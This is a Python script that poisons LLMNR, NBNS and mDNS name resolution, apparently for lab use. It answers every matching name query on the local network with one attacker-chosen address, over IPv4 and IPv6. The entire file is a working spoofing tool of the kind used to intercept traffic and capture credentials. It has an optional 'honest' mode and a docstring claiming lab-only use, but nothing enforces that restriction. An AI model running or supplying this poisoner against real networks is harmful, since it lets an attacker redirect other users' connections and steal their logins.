#!/usr/bin/env python3
"""A name poisoner for the lab: answers LLMNR, NBNS and mDNS questions for every name with one address, as the known tools do.

  poisoner.py ADDRESS [--only REGEX] [--ttl N] [--honest NAME]

With --honest NAME it is an ordinary responder instead: it answers for its own name alone. Runs in a lab namespace only.
"""
import argparse, ipaddress, re, select, socket, struct

parser = argparse.ArgumentParser()
parser.add_argument("address")
parser.add_argument("--only", default=".*")
parser.add_argument("--ttl", type=int, default=30)
parser.add_argument("--honest")
arguments = parser.parse_args()
address = ipaddress.ip_address(arguments.address).packed
wanted = re.compile(f"{arguments.honest}(\\.local)?$" if arguments.honest else arguments.only, re.I)


def listen(port, *groups):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.bind(("", port))
    for group in groups:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(group) + socket.inet_aton(arguments.address))
    return s


def listen6(port, group):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    s.bind(("", port))
    index = socket.if_nametoindex("eth0")
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, socket.inet_pton(socket.AF_INET6, group) + struct.pack("@I", index))
    return s


def question(data):
    """The first question: name, its octets, type; None when it is no plain question."""
    if len(data) < 17 or data[2] & 0x80 or struct.unpack_from("!H", data, 4)[0] < 1:
        return None
    at, labels = 12, []
    while at < len(data) and data[at]:
        if data[at] > 63:
            return None
        labels.append(data[at + 1 : at + 1 + data[at]])
        at += 1 + data[at]
    if at + 5 > len(data):
        return None
    return b".".join(labels).decode("utf-8", "replace"), data[12 : at + 1], struct.unpack_from("!H", data, at + 1)[0]


def netbios_name(encoded):
    letters = encoded[1:33]
    octets = bytes(((letters[i] - 65) << 4) | (letters[i + 1] - 65) for i in range(0, 32, 2))
    return octets[:15].decode("ascii", "replace").rstrip()


def answer(port, data):
    asked = question(data)
    if asked is None:
        return None
    name, wire, kind = asked
    if port == 137:
        name = netbios_name(wire)
        if not wanted.match(name) or kind != 0x20:
            return None
        return data[:2] + struct.pack("!5H", 0x8500, 0, 1, 0, 0) + wire + struct.pack("!HHIHH", 0x20, 1, 300000, 6, 0) + address
    if not wanted.match(name) or kind not in (1, 255):
        return None
    record = wire + struct.pack("!HHIH", 1, 1 if not arguments.honest or port != 5353 else 0x8001, arguments.ttl, 4) + address
    if port == 5353:
        return struct.pack("!6H", 0, 0x8400, 0, 1, 0, 0) + record
    return data[:2] + struct.pack("!5H", 0x8000, 1, 1, 0, 0) + wire + struct.pack("!HH", kind, 1) + record


sockets = {listen(137): 137, listen(5353, "224.0.0.251"): 5353, listen(5355, "224.0.0.252"): 5355, listen6(5355, "ff02::1:3"): 5355}
while True:
    for ready in select.select(list(sockets), [], [])[0]:
        data, sender = ready.recvfrom(9000)
        if sender[0] in (arguments.address, "127.0.0.1"):
            continue
        reply = answer(sockets[ready], data)
        if reply is not None:
            ready.sendto(reply, sender)
